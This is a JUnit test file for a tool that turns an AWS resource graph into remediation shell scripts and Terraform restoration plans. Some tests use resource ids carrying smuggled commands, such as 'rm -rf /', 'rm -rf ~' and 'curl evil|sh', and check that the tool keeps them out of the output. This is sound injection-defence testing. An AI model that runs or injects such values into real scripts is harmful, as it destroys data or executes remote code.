package io.github.vishalmysore.cloudslash.remediation;

import static org.hamcrest.MatcherAssert.assertThat;
import static org.hamcrest.Matchers.containsString;
import static org.hamcrest.Matchers.greaterThan;
import static org.hamcrest.Matchers.is;
import static org.hamcrest.Matchers.not;
import static org.junit.Assert.fail;

import java.io.IOException;
import java.io.StringWriter;
import java.time.Clock;
import java.time.Instant;
import java.time.ZoneOffset;
import java.util.Map;

import org.junit.Before;
import org.junit.Test;

import io.github.vishalmysore.cloudslash.analysis.CycleDetectedException;
import io.github.vishalmysore.cloudslash.domain.EdgeType;
import io.github.vishalmysore.cloudslash.domain.PropertyValue;
import io.github.vishalmysore.cloudslash.domain.ResourceNode;
import io.github.vishalmysore.cloudslash.domain.ResourceTypes;
import io.github.vishalmysore.cloudslash.graph.ResourceGraph;
import io.github.vishalmysore.cloudslash.policy.IgnoreTagPolicy;

/**
 * Tests for {@link RemediationScriptGenerator}.
 */
public class RemediationScriptGeneratorTest {

    private static final Clock CLOCK = Clock.fixed(Instant.parse("2024-06-15T12:00:00Z"), ZoneOffset.UTC);

    private ResourceGraph graph;
    private RemediationScriptGenerator generator;

    @Before
    public void setup() {
        graph = new ResourceGraph(new IgnoreTagPolicy(), CLOCK);
        generator = new RemediationScriptGenerator(graph, CLOCK);
    }

    private String safeDelete() throws CycleDetectedException, IOException {
        StringWriter out = new StringWriter();
        generator.generateSafeDeleteScript(out);
        return out.toString();
    }

    private String ignore() throws IOException {
        StringWriter out = new StringWriter();
        generator.generateIgnoreScript(out);
        return out.toString();
    }

    /**
     * The instance is stopped before its subnet is deleted, and the subnet
     * before its VPC.
     */
    @Test
    public void testDeletionOrderInScript() throws Exception {
        graph.addNode("vpc-1", ResourceTypes.VPC, Map.of());
        graph.addNode("subnet-1", ResourceTypes.SUBNET, Map.of());
        graph.addNode("i-1", ResourceTypes.INSTANCE, Map.of());
        graph.addTypedEdge("i-1", "subnet-1", EdgeType.ATTACHED_TO, 1);
        graph.addTypedEdge("subnet-1", "vpc-1", EdgeType.ATTACHED_TO, 1);
        graph.markWaste("vpc-1", 50);
        graph.markWaste("subnet-1", 50);
        graph.markWaste("i-1", 50);

        String script = safeDelete();

        int instance = script.indexOf("aws ec2 stop-instances --instance-ids i-1");
        int subnet = script.indexOf("aws ec2 delete-subnet --subnet-id subnet-1");
        int vpc = script.indexOf("aws ec2 delete-vpc --vpc-id vpc-1");
        assertThat(instance, greaterThan(0));
        assertThat(subnet, greaterThan(instance));
        assertThat(vpc, greaterThan(subnet));
        assertThat(script, containsString("set -e"));
        assertThat(script, containsString("# Generated: 2024-06-15T12:00:00Z"));
        assertThat(script, containsString("Safe Remediation Complete. 3 resources processed."));
    }

    @Test
    public void testVolumeSnapshotAndArn() throws Exception {
        String arn = "arn:aws:ec2:us-east-1:123456789012:volume/vol-0abc";
        graph.addNode(arn, ResourceTypes.VOLUME, Map.of());
        graph.markWaste(arn, 80);

        String script = safeDelete();

        assertThat(script, containsString("aws ec2 create-snapshot --volume-id vol-0abc"));
        assertThat(script, containsString("aws ec2 delete-volume --volume-id vol-0abc"));
    }

    /**
     * An active dependency of a waste resource gets a blast-radius warning.
     */
    @Test
    public void testImpactWarning() throws Exception {
        graph.addNode("vol-1", ResourceTypes.VOLUME, Map.of());
        graph.addNode("i-live", ResourceTypes.INSTANCE, Map.of());
        graph.addEdge("vol-1", "i-live");
        graph.markWaste("vol-1", 50);

        assertThat(safeDelete(), containsString("# WARNING: vol-1 affects 1 active resource(s): i-live"));
    }

    @Test
    public void testUnsupportedTypeNeedsManualReview() throws Exception {
        graph.addNode("bucket-1", ResourceTypes.S3_BUCKET, Map.of());
        graph.markWaste("bucket-1", 10);

        String script = safeDelete();

        assertThat(script, containsString("# Manual review required for AWS::S3::Bucket: bucket-1"));
        assertThat(script, containsString("No waste found to remediate."));
    }

    @Test
    public void testUnsafeIdSkipped() throws Exception {
        graph.addNode("vol-1; rm -rf /", ResourceTypes.VOLUME, Map.of());
        graph.markWaste("vol-1; rm -rf /", 50);

        String script = safeDelete();

        assertThat(script, containsString("# Skipping resource with unsafe id"));
        assertThat(script, not(containsString("delete-volume")));
    }

    /**
     * Newlines and shell metacharacters in an id never reach the script, not
     * even inside a comment.
     */
    @Test
    public void testIdWithNewlineNotEmitted() throws Exception {
        String id = "i-1 \nrm -rf ~\n";
        graph.addNode(id, ResourceTypes.INSTANCE, Map.of());
        graph.markWaste(id, 50);

        String deleteScript = safeDelete();
        String ignoreScript = ignore();

        assertThat(deleteScript, not(containsString("rm -rf")));
        assertThat(ignoreScript, not(containsString("rm -rf")));
        assertThat(deleteScript, containsString("# Skipping resource with unsafe id"));
        assertThat(ignoreScript, containsString("# Skipping resource with unsafe id"));
    }

    @Test
    public void testArnWithSemicolonNotTagged() throws Exception {
        String arn = "arn:aws:ec2:us-east-1:123456789012:instance/i-2;curl evil|sh";
        graph.addNode(arn, ResourceTypes.INSTANCE, Map.of());
        graph.markWaste(arn, 50);

        String script = ignore();

        assertThat(script, not(containsString("curl")));
        assertThat(script, not(containsString("--resource-arn-list")));
        assertThat(script, containsString("No waste found to ignore."));
        assertThat(safeDelete(), not(containsString("curl")));
    }

    /**
     * Unsafe ids of affected resources and unsafe types are replaced in comments.
     */
    @Test
    public void testWarningAndTypeRedacted() throws Exception {
        graph.addNode("vol-1", ResourceTypes.VOLUME, Map.of());
        graph.addNode("i-live\nreboot", ResourceTypes.INSTANCE, Map.of());
        graph.addEdge("vol-1", "i-live\nreboot");
        graph.addNode("thing-1", "Custom\nshutdown now", Map.of());
        graph.markWaste("vol-1", 50);
        graph.markWaste("thing-1", 50);

        String script = safeDelete();

        assertThat(script, containsString("# WARNING: vol-1 affects 1 active resource(s): <unsafe value omitted>"));
        assertThat(script, containsString("# Manual review required for <unsafe value omitted>: thing-1"));
        assertThat(script, not(containsString("reboot")));
        assertThat(script, not(containsString("shutdown")));
    }

    @Test
    public void testRestorationPlan() throws Exception {
        graph.addNode("arn:aws:ec2:us-east-1:123456789012:instance/i-0abc", ResourceTypes.INSTANCE, Map.of());
        graph.addNode("vol-0def", ResourceTypes.VOLUME, Map.of());
        graph.addNode("vpc-1", ResourceTypes.VPC, Map.of());
        graph.addNode("vol-held", ResourceTypes.VOLUME, Map.of(ResourceNode.TAGS,
                PropertyValue.of(Map.of(IgnoreTagPolicy.IGNORE_TAG, "justified:legal hold"))));
        graph.addNode("vol-1;reboot", ResourceTypes.VOLUME, Map.of());
        graph.markWaste("arn:aws:ec2:us-east-1:123456789012:instance/i-0abc", 50);
        graph.markWaste("vol-0def", 50);
        graph.markWaste("vpc-1", 50);
        graph.markWaste("vol-held", 50);
        graph.markWaste("vol-1;reboot", 50);

        StringWriter out = new StringWriter();
        generator.generateRestorationPlan(out);
        String plan = out.toString();

        assertThat(plan, containsString("# Generated: 2024-06-15T12:00:00Z"));
        assertThat(plan, containsString("  to = aws_instance.restore_i_0abc\n  id = \"i-0abc\"\n"));
        assertThat(plan, containsString("  to = aws_ebs_volume.restore_vol_0def\n  id = \"vol-0def\"\n"));
        assertThat(plan, not(containsString("vpc-1")));
        assertThat(plan, not(containsString("vol-held")));
        assertThat(plan, not(containsString("reboot")));
    }

    @Test
    public void testRestorationPlanEmpty() throws Exception {
        StringWriter out = new StringWriter();
        generator.generateRestorationPlan(out);
        assertThat(out.toString(), containsString("# No supported resources found for restoration."));
    }

    @Test
    public void testCycleWritesNothing() throws Exception {
        graph.addEdge("a", "b");
        graph.addEdge("b", "a");
        graph.markWaste("a", 50);
        graph.markWaste("b", 50);

        StringWriter out = new StringWriter();
        try {
            generator.generateSafeDeleteScript(out);
            fail("expected CycleDetectedException");
        } catch (CycleDetectedException e) {
            assertThat(out.toString(), is(""));
        }
    }

    @Test
    public void testPartialScanWarning() throws Exception {
        graph.addError("rds:us-east-1", new IOException("Throttling"));
        assertThat(safeDelete(), containsString("# WARNING: scan was partial (1 failed scopes)"));
    }

    /**
     * Justified waste is left out of the ignore script; non-ARN ids are skipped.
     */
    @Test
    public void testIgnoreScript() throws Exception {
        String arn = "arn:aws:ec2:us-east-1:123456789012:instance/i-0abc";
        graph.addNode(arn, ResourceTypes.INSTANCE, Map.of());
        graph.addNode("vol-held", ResourceTypes.VOLUME, Map.of(ResourceNode.TAGS,
                PropertyValue.of(Map.of(IgnoreTagPolicy.IGNORE_TAG, "justified:legal hold"))));
        graph.addNode("vol-plain", ResourceTypes.VOLUME, Map.of());
        graph.markWaste(arn, 50);
        graph.markWaste("vol-held", 50);
        graph.markWaste("vol-plain", 50);

        String script = ignore();

        assertThat(script, containsString("aws resourcegroupstaggingapi tag-resources --resource-arn-list "
                + arn + " --tags cloudslash:ignore=true"));
        assertThat(script, containsString("# Skipping non-ARN resource: vol-plain"));
        assertThat(script, not(containsString("vol-held")));
        assertThat(script, containsString("Ignore Tagging Complete. 1 resources tagged."));
    }

    @Test
    public void testIgnoreScriptEmpty() throws Exception {
        assertThat(ignore(), containsString("No waste found to ignore."));
    }

    @Test
    public void testExtractResourceId() {
        assertThat(RemediationScriptGenerator.extractResourceId("arn:aws:ec2:us-east-1:1:instance/i-123"), is("i-123"));
        assertThat(RemediationScriptGenerator.extractResourceId("arn:aws:rds:us-east-1:1:db:prod-db"), is("prod-db"));
        assertThat(RemediationScriptGenerator.extractResourceId("arn:aws:s3:::my-bucket"), is("my-bucket"));
        assertThat(RemediationScriptGenerator.extractResourceId("vol-1"), is("vol-1"));
    }
}
